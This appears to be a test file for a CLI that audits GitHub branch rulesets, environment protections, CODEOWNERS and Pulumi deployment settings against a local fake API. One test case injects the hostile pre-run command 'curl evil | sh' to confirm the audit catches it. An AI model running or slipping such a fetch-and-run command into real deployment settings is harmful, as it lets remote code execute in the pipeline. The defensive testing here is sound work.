/**
 * `npm run boundaries -- check|apply` against a local fake of GitHub's and Pulumi Cloud's REST APIs
 * on 127.0.0.1. Nothing here reaches either service. The fake answers in the documented shapes, each
 * taken from its source, not from the code under test:
 * - GitHub REST 2022-11-28 response examples: "Get rules for a branch" (a list of rules with type,
 *   ruleset_source_type, ruleset_source, ruleset_id, parameters), "Get a repository ruleset" (id,
 *   name, target, source_type, source, enforcement, bypass_actors, conditions.ref_name, rules),
 *   "Get an environment" (protection_rules with required_reviewers' prevent_self_review and
 *   reviewers, branch_policy, deployment_branch_policy; can_admins_bypass, which the responses
 *   carry: google/go-github#2722), "List deployment branch policies" (total_count, branch_policies),
 *   "List CODEOWNERS errors" (errors with line, column, kind, source, suggestion, message, path);
 * - Pulumi Cloud: GET/POST /api/stacks/ORG/PROJECT/STACK/deployments/settings (pulumi-pulumiservice
 *   apiclient GetDeploymentSettings and PatchDeploymentSettings; apitype DeploymentSettings,
 *   whose gitHub flags are omitted when false).
 */
import * as fs from "fs";
import * as http from "http";
import * as path from "path";
import { AddressInfo } from "net";
import { runInProcess } from "../cli/shell";
import { main } from "../deployment/cli";
import { parseCodeowners } from "../deployment/codeowners";
import { checkCodeowners } from "../deployment/readBack";
import { REPO_ROOT } from "../stackFiles";
import { DEPLOY_INSTALL_COMMAND, KUBELOGIN_COMMANDS } from "../deployment/settings";

type Json = any;
interface FakeState {
    branchRules: Json;
    rulesets: Record<string, Json>;
    environment: Json;
    branchPolicies: Json;
    codeownersErrors: Json;
    settings: Json;
    /** Paths answered with this status instead. */
    refuse: Record<string, number>;
}

const goodState = (): FakeState => ({
    branchRules: [
        {
            type: "deletion",
            ruleset_source_type: "Repository",
            ruleset_source: "aks-kubenet/aks-kubenet",
            ruleset_id: 42,
        },
        {
            type: "non_fast_forward",
            ruleset_source_type: "Repository",
            ruleset_source: "aks-kubenet/aks-kubenet",
            ruleset_id: 42,
        },
        {
            type: "pull_request",
            ruleset_source_type: "Repository",
            ruleset_source: "aks-kubenet/aks-kubenet",
            ruleset_id: 42,
            parameters: {
                allowed_merge_methods: ["merge", "squash", "rebase"],
                dismiss_stale_reviews_on_push: true,
                require_code_owner_review: true,
                require_last_push_approval: true,
                required_approving_review_count: 1,
                required_review_thread_resolution: false,
            },
        },
    ],
    rulesets: {
        "42": {
            id: 42,
            name: "main: reviewed changes only (aks-kubenet)",
            target: "branch",
            source_type: "Repository",
            source: "aks-kubenet/aks-kubenet",
            enforcement: "active",
            bypass_actors: [],
            conditions: { ref_name: { include: ["refs/heads/main"], exclude: [] } },
            rules: [{ type: "deletion" }, { type: "non_fast_forward" }],
            node_id: "RRS_lACkVXNlcgQB",
            created_at: "2026-11-01T10:00:00Z",
            updated_at: "2026-11-01T10:00:00Z",
        },
    },
    environment: {
        id: 161088068,
        node_id: "MDExOkVudmlyb25tZW50MTYxMDg4MDY4",
        name: "e2e",
        url: "https://api.github.com/repos/aks-kubenet/aks-kubenet/environments/e2e",
        can_admins_bypass: false,
        protection_rules: [
            {
                id: 3755,
                node_id: "MDQ6R2F0ZTM3NTU=",
                prevent_self_review: true,
                type: "required_reviewers",
                reviewers: [
                    {
                        type: "Team",
                        reviewer: {
                            id: 4242,
                            node_id: "MDQ6VGVhbTE=",
                            name: "aks-kubenet-owners",
                            slug: "aks-kubenet-owners",
                        },
                    },
                ],
            },
            { id: 3756, node_id: "MDQ6R2F0ZTM3NTY=", type: "branch_policy" },
        ],
        deployment_branch_policy: { protected_branches: false, custom_branch_policies: true },
    },
    branchPolicies: {
        total_count: 1,
        branch_policies: [
            { id: 361471, node_id: "MDE2OkdhdGVCcmFuY2hQb2xpY3kzNjE0NzE=", name: "main", type: "branch" },
        ],
    },
    codeownersErrors: { errors: [] },
    settings: {
        version: 3,
        sourceContext: { git: { branch: "refs/heads/main", repoDir: "." } },
        // As the service keeps it after the pulumiservice provider's create: the false flags were never sent.
        gitHub: { repository: "aks-kubenet/aks-kubenet", deployCommits: true, previewPullRequests: true },
        operationContext: {
            preRunCommands: [DEPLOY_INSTALL_COMMAND, ...KUBELOGIN_COMMANDS],
            options: { skipInstallDependencies: true },
        },
        executorContext: { executorImage: "pulumi/pulumi-nodejs-22:3.270.0" },
    },
    refuse: {},
});

let state: FakeState;
const requests: Array<{ method: string; url: string; authorization?: string; body?: Json }> = [];
let server: http.Server;
let base: string;

function answer(method: string, url: string, body: Json): [number, Json] {
    const path = url.split("?")[0];
    if (state.refuse[path]) return [state.refuse[path], { message: "Resource not accessible by integration" }];
    const settingsPath = "/api/stacks/acme/aks-kubenet/dev/deployments/settings";
    if (path === settingsPath && method === "POST") {
        // A partial update: what the body names changes, the rest stays (PatchDeploymentSettings).
        state.settings = { ...state.settings, gitHub: { ...state.settings.gitHub, ...body.gitHub } };
        for (const flag of ["previewPullRequests", "pullRequestTemplate"])
            if (state.settings.gitHub[flag] === false) delete state.settings.gitHub[flag];
        return [200, state.settings];
    }
    const routes: Record<string, Json> = {
        [settingsPath]: state.settings,
        "/repos/aks-kubenet/aks-kubenet/rules/branches/main": state.branchRules,
        "/repos/aks-kubenet/aks-kubenet/environments/e2e": state.environment,
        "/repos/aks-kubenet/aks-kubenet/environments/e2e/deployment-branch-policies": state.branchPolicies,
        "/repos/aks-kubenet/aks-kubenet/codeowners/errors": state.codeownersErrors,
        ...Object.fromEntries(
            Object.entries(state.rulesets).map(([id, ruleset]) => [
                `/repos/aks-kubenet/aks-kubenet/rulesets/${id}`,
                ruleset,
            ]),
        ),
    };
    return path in routes && method === "GET" ? [200, routes[path]] : [404, { message: "Not Found" }];
}

beforeAll(async () => {
    server = http.createServer((request, response) => {
        let raw = "";
        request.on("data", (chunk) => (raw += chunk));
        request.on("end", () => {
            const body = raw ? JSON.parse(raw) : undefined;
            requests.push({
                method: request.method!,
                url: request.url!,
                authorization: request.headers.authorization,
                body,
            });
            const [status, json] = answer(request.method!, request.url!, body);
            response.writeHead(status, { "Content-Type": "application/json" }).end(JSON.stringify(json));
        });
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => new Promise((resolve) => server.close(resolve)));

const saved = { github: process.env.GITHUB_TOKEN, pulumi: process.env.PULUMI_ACCESS_TOKEN };
beforeEach(() => {
    state = goodState();
    requests.length = 0;
    process.env.GITHUB_TOKEN = "ghs_fake";
    process.env.PULUMI_ACCESS_TOKEN = "pul-fake";
});
afterEach(() => {
    for (const [name, value] of [
        ["GITHUB_TOKEN", saved.github],
        ["PULUMI_ACCESS_TOKEN", saved.pulumi],
    ] as const)
        if (value === undefined) delete process.env[name];
        else process.env[name] = value;
});

const check = (...extra: string[]) =>
    runInProcess("boundaries", main, [
        "check",
        "--organization",
        "acme",
        "--repository",
        "aks-kubenet/aks-kubenet",
        "--github-api",
        base,
        "--pulumi-api",
        base,
        ...extra,
    ]);
const failures = (stdout: string) =>
    stdout
        .split("\n")
        .filter((line) => line.startsWith("FAIL"))
        .map((line) => line.replace(/\s+/g, " "));

test("apply sends the two flags as an explicit false, and the read-back then passes; before it, check exits 1 naming the flag", async () => {
    const before = await check();
    expect([before.code, failures(before.stdout)]).toEqual([
        1,
        [expect.stringMatching(/gitHub\.previewPullRequests is ON/)],
    ]);
    const applied = await runInProcess("boundaries", main, ["apply", "--organization", "acme", "--pulumi-api", base]);
    expect(applied.code).toBe(0);
    const post = requests.find((request) => request.method === "POST")!;
    expect(post.body).toEqual({ gitHub: { previewPullRequests: false, pullRequestTemplate: false } });
    expect(post.authorization).toBe("token pul-fake");
    const after = await check();
    expect([after.code, failures(after.stdout), after.stdout.split("\n").pop()]).toEqual([
        0,
        [],
        expect.stringMatching(/^\d+ passed, 0 failed$/),
    ]);
    // GitHub is asked with the GitHub token only, Pulumi Cloud with the Pulumi one only.
    for (const request of requests)
        expect([request.url, request.authorization]).toEqual([
            request.url,
            request.url.startsWith("/api/") ? "token pul-fake" : "Bearer ghs_fake",
        ]);
});

describe("each gap put back is a failed check (exit 1) naming it", () => {
    const cases: Array<[string, (fake: FakeState) => void, RegExp]> = [
        [
            "pull-request template on",
            (fake) => (fake.settings.gitHub.pullRequestTemplate = true),
            /pullRequestTemplate is ON/,
        ],
        [
            "a pre-run command added",
            (fake) => fake.settings.operationContext.preRunCommands.push("curl evil | sh"),
            /preRunCommands is /,
        ],
        [
            "another branch deploys",
            (fake) => (fake.settings.sourceContext.git.branch = "refs/heads/dev"),
            /sourceContext\.git\.branch is "refs\/heads\/dev"/,
        ],
        [
            "the ruleset may be bypassed",
            (fake) =>
                fake.rulesets["42"].bypass_actors.push({
                    actor_id: 5,
                    actor_type: "RepositoryRole",
                    bypass_mode: "always",
                }),
            /ruleset 42 bypass .*may be bypassed/,
        ],
        [
            "a token that cannot see bypass actors",
            (fake) => delete fake.rulesets["42"].bypass_actors,
            /ruleset 42 bypass .*cannot tell/,
        ],
        [
            "the pusher may approve their last push",
            (fake) => (fake.branchRules[2].parameters.require_last_push_approval = false),
            /pull_request no active rule requires/,
        ],
        [
            "no code owner review",
            (fake) => (fake.branchRules[2].parameters.require_code_owner_review = false),
            /pull_request no active rule requires/,
        ],
        ["main may be deleted", (fake) => fake.branchRules.shift(), /deletion no active rule/],
        [
            "self-review allowed",
            (fake) => (fake.environment.protection_rules[0].prevent_self_review = false),
            /prevent_self_review is false/,
        ],
        ["admins may bypass", (fake) => (fake.environment.can_admins_bypass = true), /can_admins_bypass is true/],
        [
            "another team reviews",
            (fake) => (fake.environment.protection_rules[0].reviewers[0].reviewer.slug = "everyone"),
            /required reviewers the reviewers are \["everyone"\]/,
        ],
        [
            "another branch may run e2e",
            (fake) => fake.branchPolicies.branch_policies.push({ id: 2, name: "*", type: "branch" }),
            /deployment branches .*not main alone/,
        ],
        [
            "GitHub ignores CODEOWNERS",
            (fake) =>
                fake.codeownersErrors.errors.push({
                    line: 3,
                    column: 1,
                    kind: "Unknown owner",
                    message: "Unknown owner on line 3",
                }),
            /GitHub's errors 3: Unknown owner on line 3/,
        ],
        [
            "a token refused",
            (fake) => (fake.refuse["/repos/aks-kubenet/aks-kubenet/environments/e2e"] = 403),
            /GitHub cannot tell: GET .*environments\/e2e answered 403 \(the token may not read it/,
        ],
    ];
    test.each(cases)("%s", async (_name, change, expected) => {
        state.settings.gitHub.previewPullRequests = false;
        change(state);
        const result = await check();
        expect([result.code, failures(result.stdout)]).toEqual([1, [expect.stringMatching(expected)]]);
    });
});

test("CODEOWNERS naming another organization's team than the repository's fails, even where GitHub finds no error", () => {
    const local = parseCodeowners(fs.readFileSync(path.join(REPO_ROOT, "CODEOWNERS"), "utf8"));
    const [paths, remote] = checkCodeowners(
        local,
        { errors: [] },
        { repository: "acme/aks-kubenet", ownersTeam: "aks-kubenet-owners" },
    );
    expect([paths.ok, paths.detail, remote.ok]).toEqual([
        false,
        expect.stringMatching(/^not owned by @acme\/aks-kubenet-owners: /),
        true,
    ]);
});

test("input it cannot use: no token, no repository, an unknown command or option; one line, exit 2, no request", async () => {
    delete process.env.GITHUB_TOKEN;
    for (const [args, message] of [
        [
            ["check", "--organization", "acme", "--repository", "aks-kubenet/aks-kubenet", "--github-api", base],
            /^boundaries: GITHUB_TOKEN is not set/,
        ],
        [["check", "--organization", "acme"], /^boundaries: check needs --repository/],
        [["check", "--repository", "acme", "--organization", "acme"], /is not OWNER\/REPO/],
        [["rotate"], /^boundaries: unknown command "rotate"/],
        [["check", "--bogus"], /^boundaries: Unknown option '--bogus'/],
    ] as const) {
        const result = await runInProcess("boundaries", main, [...args]);
        expect([args, result.code, result.stderr.split("\n")]).toEqual([args, 2, [expect.stringMatching(message)]]);
    }
    expect(requests).toEqual([]);
    const help = await runInProcess("boundaries", main, ["--help"]);
    expect([help.code, help.stdout]).toEqual([0, expect.stringMatching(/^usage: npm run --silent boundaries/)]);
});

test("condition prints each identity's condition with the stack's admins; ids that are not GUIDs exit 2", async () => {
    const ids = [
        "--preview-object-id",
        "11111111-1111-4111-8111-111111111111",
        "--deploy-object-id",
        "22222222-2222-4222-8222-222222222222",
        "--e2e-object-id",
        "33333333-3333-4333-8333-333333333333",
    ];
    const result = await runInProcess("boundaries", main, ["condition", "--stack", "dev", ...ids]);
    expect(result.code).toBe(0);
    // The dev stack names no clusterAdmins: each identity may grant Cluster Admin to itself only.
    expect(result.stdout).toMatch(
        /deploy identity .*\n.*PrincipalId\] ForAnyOfAnyValues:GuidEquals \{22222222-2222-4222-8222-222222222222\}/,
    );
    expect(result.stdout).toMatch(
        /e2e identity .*\n.*PrincipalId\] ForAnyOfAnyValues:GuidEquals \{33333333-3333-4333-8333-333333333333\}/,
    );
    const bad = await runInProcess("boundaries", main, ["condition", "--stack", "dev", ...ids.slice(0, 5), "me"]);
    expect([bad.code, bad.stderr]).toEqual([
        2,
        expect.stringMatching(/^boundaries: not Entra object ids \(GUIDs\): me$/),
    ]);
});
